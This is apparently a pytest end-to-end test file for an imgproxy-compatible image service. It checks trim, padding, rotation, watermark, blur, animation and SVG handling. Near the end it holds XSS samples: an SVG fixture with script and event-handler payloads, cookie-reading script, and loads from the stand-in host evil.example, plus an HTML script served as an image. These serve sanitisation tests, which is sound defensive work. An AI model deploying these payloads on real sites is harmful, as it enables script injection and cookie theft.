"""End to end: the rest of imgproxy's options, table-driven, checked as images."""

from __future__ import annotations

import base64
import io
import itertools
from collections.abc import Callable, Iterator

import httpx
import pytest
import pyvips

from tests.conftest import make_settings, signed
from tests.images import (
    BLUE,
    GREEN,
    RED,
    WHITE,
    YELLOW,
    close,
    decode,
    encode,
    gradient,
    loader_format,
    mean_abs_difference,
    moving_square_gif,
    pixel,
    quadrants,
    solid,
)
from tests.servers import Origin, serve_pixelpipe

_names = itertools.count()
BLACK = (0, 0, 0)


def serve(origin: Origin, data: bytes, content_type: str = "image/png") -> str:
    return origin.add(f"/fx/{next(_names)}", data, content_type)


def checker(width: int, height: int, cell: int) -> pyvips.Image:
    xyz = pyvips.Image.xyz(width, height)
    on = ((xyz[0] // cell + xyz[1] // cell) % 2) * 255
    return on.bandjoin([on, on]).cast("uchar").copy(interpretation="srgb")


def bordered(
    inner: tuple[int, int, int], border: tuple[int, int, int], size: int = 100
) -> pyvips.Image:
    """A 40x30 block of `inner`, centred-ish on a `border` field (left 20, top 10)."""
    return solid(size, size // 2, border).insert(solid(40, 30, inner), 20, 10)


WATERMARK = encode(solid(20, 10, BLUE), "png")


@pytest.fixture(scope="module")
def server() -> Iterator[str]:
    settings = make_settings(watermark_data=WATERMARK, max_animation_frames=50)
    with serve_pixelpipe(settings) as base:
        yield base


@pytest.fixture(scope="module")
def sources(origin: Origin) -> dict[str, str]:
    return {
        "quad": serve(origin, encode(quadrants(400, 300), "png")),
        "bordered": serve(origin, encode(bordered(RED, WHITE), "png")),
        "transparent": serve(
            origin,
            encode(solid(50, 50, RED).bandjoin_const([0]).copy(interpretation="srgb"), "png"),
        ),
        "checker": serve(origin, encode(checker(200, 200, 2), "png")),
        "gradient": serve(origin, encode(gradient(300, 200), "png")),
        "red": serve(origin, encode(solid(100, 50, RED), "png")),
    }


Check = Callable[[pyvips.Image], bool]


def at(x: int, y: int, colour: tuple[int, ...], tolerance: int = 16) -> Check:
    return lambda image: close(
        pixel(image, x if x >= 0 else image.width + x, y if y >= 0 else image.height + y),
        colour,
        tolerance,
    )


def transparent_at(x: int, y: int) -> Check:
    return lambda image: image.hasalpha() and pixel(image, x, y)[3] == 0


def deviation_below(limit: float) -> Check:
    return lambda image: image.deviate() < limit


def deviation_above(limit: float) -> Check:
    return lambda image: image.deviate() > limit


def flat_blocks(size: int) -> Check:
    def check(image: pyvips.Image) -> bool:
        blocks = [image.crop(0, 0, size, size), image.crop(size, size, size, size)]
        flat = all(block[b].deviate() < 1.0 for block in blocks for b in range(image.bands))
        return flat and image.deviate() > 10  # blocks differ from each other

    return check


# (source, options, extension, size, format, checks)
CASES: list[tuple[str, str, str, tuple[int, int], str, list[Check]]] = [
    # trim
    ("bordered", "t:10", "png", (40, 30), "png", [at(5, 5, RED), at(-5, -5, RED)]),
    ("bordered", "trim:10:ffffff", "png", (40, 30), "png", [at(20, 15, RED)]),
    ("bordered", "t:10:fff:1", "png", (60, 30), "png", []),  # left 20 vs right 40: cut 20 each
    ("bordered", "t:10::0:1", "png", (40, 30), "png", []),  # top 10 vs bottom 10: equal already
    ("bordered", "t:10/rs:fit:20:20", "png", (20, 15), "png", [at(10, 7, RED)]),
    ("bordered", "t:10:00ff00", "png", (100, 50), "png", []),  # wrong colour: nothing trimmed
    ("transparent", "t:10/ex:0", "png", (50, 50), "png", []),  # all background: kept whole
    # padding (CSS order), scaled by dpr, filled by background
    ("red", "pd:10", "png", (120, 70), "png", [transparent_at(2, 2), at(60, 35, RED)]),
    ("red", "padding:10:20", "png", (140, 70), "png", [transparent_at(5, 35)]),
    ("red", "pd:1:2:3:4", "png", (106, 54), "png", [transparent_at(1, 53)]),
    ("red", "pd:10/bg:00ff00", "png", (120, 70), "png", [at(2, 2, GREEN), at(60, 35, RED)]),
    ("red", "pd:10", "jpg", (120, 70), "jpeg", [at(2, 2, WHITE), at(60, 35, RED, 30)]),
    ("red", "pd:10/dpr:2/rs:fit:50:50", "png", (140, 90), "png", [transparent_at(5, 5)]),
    ("red", "pd::5", "png", (110, 50), "png", []),
    # extend to aspect ratio
    (
        "red",
        "rs:fit:200:200/exar:1",
        "png",
        (100, 100),
        "png",
        [transparent_at(50, 5), at(50, 50, RED)],
    ),
    ("red", "rs:fit:200:100/extend_aspect_ratio:1", "png", (100, 50), "png", []),
    (
        "red",
        "rs:fit:100:200/exar:1:no",
        "png",
        (100, 200),
        "png",
        [at(50, 10, RED), transparent_at(50, 150)],
    ),
    (
        "red",
        "rs:fit:300:100/extend_ar:1:we/bg:0:0:255",
        "png",
        (150, 50),
        "png",
        [at(10, 25, RED), at(140, 25, BLUE)],
    ),
    # rotate and flip
    (
        "quad",
        "rot:90",
        "png",
        (300, 400),
        "png",
        # The corner pixels too: an affine rotate left a black line on one edge.
        [at(0, 0, BLUE), at(-1, 0, RED), at(-1, -1, GREEN), at(0, -1, YELLOW)],
    ),
    (
        "quad",
        "rotate:180",
        "png",
        (400, 300),
        "png",
        [at(0, 0, YELLOW), at(-1, -1, RED), at(-1, 0, BLUE), at(0, -1, GREEN)],
    ),
    ("quad", "rot:270", "png", (300, 400), "png", [at(0, 0, GREEN), at(-1, -1, BLUE)]),
    ("quad", "rot:-90", "png", (300, 400), "png", [at(5, 5, GREEN)]),
    ("quad", "rot:360", "png", (400, 300), "png", [at(5, 5, RED)]),
    (
        "quad",
        "rot:90/rs:fill:100:100/g:no",
        "png",
        (100, 100),
        "png",
        [at(5, 5, BLUE), at(-5, 5, RED)],
    ),
    ("quad", "rot:90/c:150:200:nowe", "png", (150, 200), "png", [at(5, 5, BLUE), at(-5, -5, BLUE)]),
    ("quad", "fl:1", "png", (400, 300), "png", [at(5, 5, GREEN), at(-5, -5, BLUE)]),
    ("quad", "flip:0:1", "png", (400, 300), "png", [at(5, 5, BLUE), at(-5, -5, GREEN)]),
    ("quad", "fl:1:1", "png", (400, 300), "png", [at(5, 5, YELLOW)]),
    # background
    (
        "transparent",
        "bg:00ff00",
        "png",
        (50, 50),
        "png",
        [at(25, 25, GREEN), lambda im: not im.hasalpha()],
    ),
    ("transparent", "background:0:0:255", "jpg", (50, 50), "jpeg", [at(25, 25, BLUE, 30)]),
    ("transparent", "bg:f00", "webp", (50, 50), "webp", [at(25, 25, RED, 30)]),
    ("transparent", "bg:", "png", (50, 50), "png", [transparent_at(25, 25)]),
    ("transparent", "", "jpg", (50, 50), "jpeg", [at(25, 25, WHITE)]),
    (
        "red",
        "rs:fit:200:200/ex:1/bg:0000ff",
        "jpg",
        (200, 200),
        "jpeg",
        [at(5, 5, BLUE, 30), at(100, 100, RED, 30)],
    ),
    # blur, sharpen, pixelate
    ("checker", "bl:3", "png", (200, 200), "png", [deviation_below(40)]),
    ("checker", "blur:0.5", "png", (200, 200), "png", [deviation_above(40)]),
    ("checker", "", "png", (200, 200), "png", [deviation_above(120)]),
    ("gradient", "sh:2", "png", (300, 200), "png", []),
    ("gradient", "sharpen:0.7/rs:fit:150:150", "png", (150, 100), "png", []),
    ("gradient", "pix:10", "png", (300, 200), "png", [flat_blocks(10)]),
    ("gradient", "pixelate:25/rs:fit:150:150", "png", (150, 100), "png", [flat_blocks(25)]),
    ("gradient", "pix:1", "png", (300, 200), "png", []),
    # watermark (a 20x10 blue block from PIXELPIPE_WATERMARK_DATA)
    ("red", "wm:1", "png", (100, 50), "png", [at(50, 25, BLUE), at(5, 5, RED)]),
    ("red", "wm:1:nowe", "png", (100, 50), "png", [at(5, 5, BLUE), at(50, 25, RED)]),
    ("red", "wm:1:soea", "png", (100, 50), "png", [at(-5, -5, BLUE), at(5, 5, RED)]),
    ("red", "wm:1:nowe:10:5", "png", (100, 50), "png", [at(5, 3, RED), at(15, 8, BLUE)]),
    ("red", "wm:0.5:ce", "png", (100, 50), "png", [at(50, 25, (128, 0, 128), 20)]),
    ("red", "wm:1:re", "png", (100, 50), "png", [at(5, 5, BLUE), at(95, 45, BLUE)]),
    ("red", "wm:1:re:20:10", "png", (100, 50), "png", [at(5, 5, BLUE), at(30, 15, RED)]),
    ("red", "wm:1:nowe:0:0:0.5", "png", (100, 50), "png", [at(45, 20, BLUE), at(55, 30, RED)]),
    ("red", "wm:0", "png", (100, 50), "png", [at(50, 25, RED)]),
    ("red", "watermark:1:so", "jpg", (100, 50), "jpeg", [at(50, 45, BLUE, 40), at(50, 5, RED, 30)]),
    # max_bytes
    ("gradient", "mb:2000", "jpg", (300, 200), "jpeg", []),
    ("gradient", "max_bytes:3000", "webp", (300, 200), "webp", []),
    # enforce_thumbnail: accepted; a source with no embedded thumbnail is used whole
    ("quad", "eth:1", "png", (400, 300), "png", [at(5, 5, RED)]),
    # combinations in imgproxy's pipeline order
    (
        "quad",
        "c:200:150:nowe/rs:fit:100:100/pd:5/bg:ffffff",
        "png",
        (110, 85),
        "png",
        [at(2, 2, WHITE), at(50, 40, RED)],
    ),
    (
        "quad",
        "rs:fill:100:100/g:soea/bl:1/wm:1:nowe",
        "png",
        (100, 100),
        "png",
        [at(3, 3, BLUE), at(-5, -5, YELLOW)],
    ),
    (
        "quad",
        "rot:180/rs:fit:200:200/ex:1/bg:000000",
        "jpg",
        (200, 200),
        "jpeg",
        [at(100, 10, BLACK, 20)],
    ),
    ("quad", "fl:1/c:100:100:nowe", "png", (100, 100), "png", [at(50, 50, GREEN)]),
    ("gradient", "t:1/rs:fit:100:100", "png", (100, 67), "png", []),
    ("quad", "pd:10/rs:fit:100:100/f:webp", "webp", (120, 95), "webp", []),
]


@pytest.mark.parametrize(
    ("source", "options", "extension", "size", "fmt", "checks"),
    CASES,
    ids=[f"{c[0]}-{c[1] or 'none'}-{c[2]}" for c in CASES],
)
def test_option_cases(
    client: httpx.Client,
    server: str,
    sources: dict[str, str],
    source: str,
    options: str,
    extension: str,
    size: tuple[int, int],
    fmt: str,
    checks: list[Check],
) -> None:
    prefix = f"/{options}" if options else ""
    response = client.get(server + signed(f"{prefix}/plain/{sources[source]}@{extension}"))
    assert response.status_code == 200, response.text
    image = decode(response.content)
    assert (image.width, image.height) == size
    assert loader_format(image) == fmt
    for number, check in enumerate(checks):
        assert check(image), f"check {number}"


def test_table_has_at_least_sixty_cases() -> None:
    assert len(CASES) >= 60


@pytest.mark.parametrize("budget", [1500, 2500, 6000])
def test_max_bytes_keeps_the_result_within_budget(
    client: httpx.Client, server: str, sources: dict[str, str], budget: int
) -> None:
    for extension in ("jpg", "webp"):
        path = f"/mb:{budget}/plain/{sources['gradient']}@{extension}"
        response = client.get(server + signed(path))
        assert response.status_code == 200
        assert len(response.content) <= budget, extension
        unbounded = client.get(server + signed(f"/plain/{sources['gradient']}@{extension}"))
        assert len(unbounded.content) > len(response.content) or len(unbounded.content) <= budget


def test_skip_processing_returns_the_source_untouched(
    client: httpx.Client, server: str, origin: Origin
) -> None:
    data = encode(quadrants(80, 60), "png")
    url = serve(origin, data)
    skipped = client.get(server + signed(f"/rs:fit:10:10/skp:png:jpg/plain/{url}"))
    assert skipped.content == data
    assert skipped.headers["content-type"] == "image/png"
    converted = client.get(server + signed(f"/rs:fit:10:10/skp:png/plain/{url}@webp"))
    assert decode(converted.content).width == 10  # a format change is processed


def test_raw_streams_the_source_as_it_came(
    client: httpx.Client, server: str, origin: Origin
) -> None:
    data = encode(quadrants(80, 60), "png")
    # The origin's type is not trusted: the bytes say PNG.
    url = serve(origin, data, "text/html")
    response = client.get(server + signed(f"/raw:1/rs:fit:10:10/plain/{url}"))
    assert response.status_code == 200
    assert response.content == data
    assert response.headers["content-type"] == "image/png"
    assert response.headers["x-content-type-options"] == "nosniff"


def test_raw_serves_images_only(client: httpx.Client, server: str, origin: Origin) -> None:
    # imgproxy's raw is unchecked; here it is not: a page with a script, served
    # from the image domain, would run there.
    for body, declared in (
        (b"<html><script>alert(document.domain)</script></html>", "image/jpeg"),
        (b"not even an image", "text/plain"),
    ):
        url = serve(origin, body, declared)
        response = client.get(server + signed(f"/raw:1/plain/{url}"))
        assert response.status_code == 422
        assert response.text.startswith("source is not an image")
        assert b"script" not in response.content


def animated_gif(frames: int, size: int = 60) -> bytes:
    colours = [RED, GREEN, BLUE, YELLOW]
    strip = pyvips.Image.arrayjoin(
        [solid(size, size, colours[i % 4]) for i in range(frames)], across=1
    ).copy()
    strip.set_type(pyvips.GValue.gint_type, "page-height", size)
    strip.set_type(pyvips.GValue.array_int_type, "delay", [50] * frames)
    strip.set_type(pyvips.GValue.gint_type, "loop", 0)
    return strip.gifsave_buffer()


def frames_of(data: bytes) -> int:
    image = pyvips.Image.new_from_buffer(data, "", n=-1)
    return int(image.get("n-pages")) if "n-pages" in image.get_fields() else 1


@pytest.mark.parametrize("extension", ["gif", "webp"])
def test_animation_keeps_its_frames(
    client: httpx.Client, server: str, origin: Origin, extension: str
) -> None:
    url = serve(origin, animated_gif(10), "image/gif")
    response = client.get(server + signed(f"/rs:fit:30:30/plain/{url}@{extension}"))
    assert response.status_code == 200
    assert frames_of(response.content) == 10
    image = pyvips.Image.new_from_buffer(response.content, "", n=-1)
    assert image.width == 30 and image.get("page-height") == 30
    assert close(pixel(image, 15, 15), RED, 30)
    assert close(pixel(image, 15, 45), GREEN, 30)  # the second frame
    assert list(image.get("delay"))[:10] == [50] * 10


def test_animation_through_crop_and_effects(
    client: httpx.Client, server: str, origin: Origin
) -> None:
    url = serve(origin, animated_gif(10), "image/gif")
    response = client.get(server + signed(f"/c:30:30:nowe/bl:1/wm:1/pd:2/plain/{url}"))
    image = pyvips.Image.new_from_buffer(response.content, "", n=-1)
    assert frames_of(response.content) == 10
    assert (image.width, image.get("page-height")) == (34, 34)


@pytest.mark.parametrize("options", ["rs:fill:100:100/g:sm", "c:100:100:sm"])
def test_a_smart_crop_cuts_every_frame_of_an_animation_in_one_place(
    client: httpx.Client, server: str, origin: Origin, options: str
) -> None:
    """The window is chosen on the first frame, as thumbor's smart crop of a
    GIF: one chosen per frame would follow the square and shake the field."""
    url = serve(origin, moving_square_gif(), "image/gif")
    response = client.get(server + signed(f"/{options}/plain/{url}@webp"))
    assert response.status_code == 200
    image = pyvips.Image.new_from_buffer(response.content, "", n=-1)
    # The encoder merges the last frames, where the square has left the window.
    count = image.get("n-pages")
    assert (image.width, image.get("page-height")) == (100, 100) and count >= 4
    frames = [image.crop(0, 100 * i, 100, 100) for i in range(count)]
    # The top row is field in every frame: its green says where the window is.
    fields = [frame.crop(0, 0, 100, 1)[1].avg() for frame in frames]
    assert max(fields) - min(fields) < 3, fields
    # ... and the square moves through it (the first frame's window holds it).
    red = [(frame[0] > 200) & (frame[1] < 100) for frame in frames]
    assert red[0].avg() > 0
    lefts = [mask.project()[0].crop(0, 0, 100, 1) for mask in red if mask.max() > 0]
    firsts = [next(x for x in range(100) if column(x, 0)[0] > 0) for column in lefts]
    assert firsts == sorted(firsts) and firsts[-1] > firsts[0], firsts


def sixteen_colour_gif(frames: int = 6) -> bytes:
    """320x240 frames (by Pillow) of 16 palette colours: discs over a field."""
    from PIL import Image, ImageDraw

    palette = [(16 * i, 255 - 16 * i, 40 * i % 256) for i in range(16)]
    pictures = []
    for index in range(frames):
        picture = Image.new("P", (320, 240))
        picture.putpalette([value for colour in palette for value in colour])
        draw = ImageDraw.Draw(picture)
        for disc in range(1, 16):
            left, top = (disc * 37 + index * 9) % 260, (disc * 23 + index * 5) % 180
            draw.ellipse([left, top, left + 59, top + 59], fill=disc)
        pictures.append(picture)
    out = io.BytesIO()
    pictures[0].save(out, "GIF", save_all=True, append_images=pictures[1:], duration=80, loop=0)
    return out.getvalue()


def test_a_gif_keeps_the_palette_size_of_its_source(
    client: httpx.Client, server: str, origin: Origin
) -> None:
    """As imgproxy: a 16-colour GIF made smaller stays 16 colours (4 bits), not
    up to 256 from the resampling's in-between shades."""
    source = sixteen_colour_gif()
    url = serve(origin, source, "image/gif")
    response = client.get(server + signed(f"/rs:fit:160:160/plain/{url}@gif"))
    assert response.status_code == 200
    image = pyvips.Image.new_from_buffer(response.content, "", n=-1)
    assert (image.width, image.get("page-height"), image.get("n-pages")) == (160, 120, 6)
    assert image.get("bits-per-sample") == 4
    first = image.crop(0, 0, 160, 120)
    colours = {tuple(first(x, y)[:3]) for x in range(0, 160, 3) for y in range(0, 120, 3)}
    assert len(colours) <= 16
    expected = pyvips.Image.new_from_buffer(source, "").resize(0.5)
    assert mean_abs_difference(first[:3], expected[:3]) < 12
    # A photograph-like GIF of 256 colours keeps 8 bits.
    rich = serve(origin, moving_square_gif(), "image/gif")
    response = client.get(server + signed(f"/rs:fit:200:200/plain/{rich}@gif"))
    assert pyvips.Image.new_from_buffer(response.content, "").get("bits-per-sample") == 8


def test_animation_to_a_still_format_is_the_first_frame(
    client: httpx.Client, server: str, origin: Origin
) -> None:
    url = serve(origin, animated_gif(10), "image/gif")
    image = decode(client.get(server + signed(f"/rs:fit:30:30/plain/{url}@png")).content)
    assert (image.width, image.height) == (30, 30)
    assert close(pixel(image, 15, 15), RED, 30)


def test_animation_over_the_frame_limit_is_its_first_frame(
    client: httpx.Client, server: str, origin: Origin
) -> None:
    url = serve(origin, animated_gif(2000, size=8), "image/gif")
    response = client.get(server + signed(f"/plain/{url}@gif"))
    assert response.status_code == 200
    assert frames_of(response.content) == 1
    image = decode(response.content)
    assert (image.width, image.height) == (8, 8)


MALICIOUS_SVG = b"""<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     width="40" height="20" onload="alert(1)">
  <script>alert(document.cookie)</script>
  <script xlink:href="https://evil.example/x.js"/>
  <rect width="40" height="20" fill="red" onclick="steal()"/>
  <image href="https://evil.example/track.png" width="1" height="1"/>
  <use xlink:href="https://evil.example/sprite.svg#a"/>
  <use href="#local"/>
  <a href="javascript:alert(2)"><circle id="local" cx="5" cy="5" r="2"/></a>
  <foreignObject><body xmlns="http://www.w3.org/1999/xhtml">
    <iframe src="https://evil.example"/></body></foreignObject>
  <style>@import url(https://evil.example/a.css);
    circle { fill: url(https://evil.example/p#x) }</style>
</svg>"""


def test_malicious_svg_comes_back_clean(client: httpx.Client, server: str, origin: Origin) -> None:
    url = serve(origin, MALICIOUS_SVG, "image/svg+xml")
    response = client.get(server + signed(f"/plain/{url}"))
    assert response.status_code == 200
    assert response.headers["content-type"] == "image/svg+xml"
    body = response.content.lower()
    for bad in (
        b"<script",
        b"onload",
        b"onclick",
        b"evil.example",
        b"javascript:",
        b"foreignobject",
        b"@import",
    ):
        assert bad not in body, bad
    assert b'href="#local"' in body and b"<rect" in body
    # and what is left still renders as the same picture
    image = decode(response.content)
    assert (image.width, image.height) == (40, 20)
    assert close(pixel(image, 30, 10), (*RED, 255))


def test_svg_is_rasterised_for_processing(
    client: httpx.Client, server: str, origin: Origin
) -> None:
    url = serve(origin, MALICIOUS_SVG, "image/svg+xml")
    response = client.get(server + signed(f"/rs:fit:400:400/plain/{url}"))
    image = decode(response.content)
    assert loader_format(image) == "png"
    assert (image.width, image.height) == (400, 200)  # vectors scale up without enlarge
    assert close(pixel(image, 300, 100), (*RED, 255))
    as_jpeg = decode(client.get(server + signed(f"/w:80/plain/{url}@jpg")).content)
    assert (as_jpeg.width, as_jpeg.height) == (80, 40)


def test_svg_pass_through_is_refused_when_sanitising_is_off(
    client: httpx.Client, origin: Origin
) -> None:
    url = serve(origin, MALICIOUS_SVG, "image/svg+xml")
    with serve_pixelpipe(make_settings(sanitize_svg=False)) as base:
        response = client.get(base + signed(f"/plain/{url}"))
        assert response.status_code == 422
        assert "SVG pass-through is off" in response.text
        assert client.get(base + signed(f"/w:20/plain/{url}@png")).status_code == 200


def test_watermark_from_path_and_url(client: httpx.Client, origin: Origin, tmp_path) -> None:  # type: ignore[no-untyped-def]
    red = serve(origin, encode(solid(100, 50, RED), "png"))
    mark_file = tmp_path / "mark.png"
    mark_file.write_bytes(encode(solid(20, 10, GREEN), "png"))
    mark_url = serve(origin, encode(solid(20, 10, YELLOW), "png"))
    for settings, colour in (
        (make_settings(watermark_path=str(mark_file)), GREEN),
        (make_settings(watermark_url=mark_url), YELLOW),
        (make_settings(watermark_data=WATERMARK, watermark_opacity=0.5), (128, 0, 128)),
    ):
        with serve_pixelpipe(settings) as base:
            image = decode(client.get(base + signed(f"/wm:1/plain/{red}@png")).content)
            assert close(pixel(image, 50, 25), colour, 20), colour


def test_without_a_watermark_configured_wm_is_a_no_op(
    client: httpx.Client, pixelpipe: str, origin: Origin
) -> None:
    red = serve(origin, encode(solid(100, 50, RED), "png"))
    image = decode(client.get(pixelpipe + signed(f"/wm:1/plain/{red}@png")).content)
    assert close(pixel(image, 50, 25), RED)


def test_base64_filename_and_options_survive_presets(
    client: httpx.Client, server: str, sources: dict[str, str]
) -> None:
    encoded = base64.urlsafe_b64encode(sources["red"].encode()).decode().rstrip("=")
    response = client.get(server + signed(f"/pd:5/rot:90/{encoded}.png"))
    image = decode(response.content)
    assert (image.width, image.height) == (60, 110)
